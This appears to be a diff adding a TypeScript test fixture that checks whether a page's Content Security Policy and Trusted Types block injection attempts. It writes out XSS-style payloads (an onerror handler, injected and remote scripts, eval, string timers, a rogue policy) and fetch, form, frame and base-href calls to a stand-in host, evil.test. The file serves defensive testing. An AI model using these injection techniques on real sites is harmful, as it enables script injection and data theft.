@@ -1,0 +1,148 @@
+/** What an injection would try in the page. Each runs in the page and sets `planted` if the browser let it. */
+export interface Plant {
+  name: string
+  act: () => void | Promise<unknown>
+  /** What the watcher must have seen. */
+  complaint: RegExp
+}
+
+export const scriptPlants: Plant[] = [
+  {
+    name: 'HTML from a string, with an inline style',
+    act: () => {
+      document.body.insertAdjacentHTML('beforeend', '<p style="opacity:0">x</p>')
+    },
+    complaint: /require-trusted-types-for.*insertAdjacentHTML/,
+  },
+  {
+    name: 'innerHTML with a handler',
+    act: () => {
+      document.createElement('div').innerHTML = '<img src=x onerror="globalThis.planted = true">'
+    },
+    complaint: /require-trusted-types-for.*innerHTML/,
+  },
+  {
+    name: 'an injected <script>',
+    act: () => {
+      const script = document.createElement('script')
+      script.append('globalThis.planted = true')
+      document.head.append(script)
+    },
+    complaint: /policy violation \(enforce\): (require-trusted-types-for|script-src-elem)/,
+  },
+  {
+    name: 'a <script> from elsewhere',
+    act: () => {
+      const script = document.createElement('script')
+      script.src = 'https://evil.test/planted.js'
+      document.head.append(script)
+    },
+    complaint: /require-trusted-types-for.*HTMLScriptElement src/,
+  },
+  {
+    name: 'a module from a data address',
+    act: () => import(['data:text/javascript', 'globalThis.planted = true'].join()),
+    complaint: /policy violation \(enforce\): script-src-elem data/,
+  },
+  {
+    name: 'eval',
+    // In a task of its own: what Playwright runs directly may eval whatever the policy says.
+    act: () => {
+      const { eval: run } = globalThis
+      setTimeout(() => run('globalThis.planted = true'))
+    },
+    complaint: /policy violation \(enforce\): (require-trusted-types-for|script-src).* eval/,
+  },
+  {
+    name: 'a timer from a string',
+    act: () => {
+      Reflect.apply(setTimeout, globalThis, ['globalThis.planted = true', 0])
+    },
+    complaint: /policy violation \(enforce\): require-trusted-types-for.*setTimeout/,
+  },
+  {
+    name: 'a worker from elsewhere',
+    act: () => {
+      new Worker('/planted.js').terminate()
+    },
+    complaint: /policy violation \(enforce\): require-trusted-types-for.*Worker/,
+  },
+  {
+    name: 'a Trusted Types policy of its own',
+    act: () => {
+      const { trustedTypes } = globalThis as {
+        trustedTypes?: { createPolicy: (name: string, rules: object) => unknown }
+      }
+      trustedTypes?.createPolicy('planted', { createHTML: (text: string) => text })
+      Reflect.set(globalThis, 'planted', true)
+    },
+    complaint: /policy violation \(enforce\): trusted-types .*planted/,
+  },
+]
+
+export const contentPlants: Plant[] = [
+  {
+    name: 'an inline style',
+    act: () => {
+      document.body.setAttribute('style', 'opacity: 0')
+      if (getComputedStyle(document.body).opacity === '0') Reflect.set(globalThis, 'planted', true)
+    },
+    complaint: /policy violation \(enforce\): style-src-attr inline/,
+  },
+  {
+    name: 'a <style>',
+    act: () => {
+      const style = document.createElement('style')
+      style.append('body { opacity: 0 }')
+      document.head.append(style)
+      if (getComputedStyle(document.body).opacity === '0') Reflect.set(globalThis, 'planted', true)
+    },
+    complaint: /policy violation \(enforce\): style-src-elem inline/,
+  },
+  {
+    name: 'a call to elsewhere',
+    act: async () => {
+      await fetch('https://evil.test/planted')
+      Reflect.set(globalThis, 'planted', true)
+    },
+    complaint: /policy violation \(enforce\): connect-src https:\/\/evil\.test/,
+  },
+  {
+    name: 'a picture from elsewhere',
+    act: () => {
+      const picture = new Image()
+      picture.addEventListener('load', () => Reflect.set(globalThis, 'planted', true))
+      picture.src = 'https://evil.test/planted.png'
+    },
+    complaint: /policy violation \(enforce\): img-src https:\/\/evil\.test/,
+  },
+  {
+    name: 'a frame from elsewhere',
+    act: () => {
+      const frame = document.createElement('iframe')
+      frame.src = 'https://evil.test/planted'
+      document.body.append(frame)
+    },
+    complaint: /policy violation \(enforce\): frame-src https:\/\/evil\.test/,
+  },
+  {
+    name: 'a form to elsewhere',
+    act: () => {
+      const form = document.createElement('form')
+      form.action = 'https://evil.test/planted'
+      document.body.append(form)
+      form.submit()
+    },
+    complaint: /policy violation \(enforce\): form-action https:\/\/evil\.test/,
+  },
+  {
+    name: 'another base address',
+    act: () => {
+      const base = document.createElement('base')
+      base.href = 'https://evil.test/'
+      document.head.append(base)
+      if (document.baseURI.includes('evil')) Reflect.set(globalThis, 'planted', true)
+    },
+    complaint: /policy violation \(enforce\): base-uri https:\/\/evil\.test/,
+  },
+]
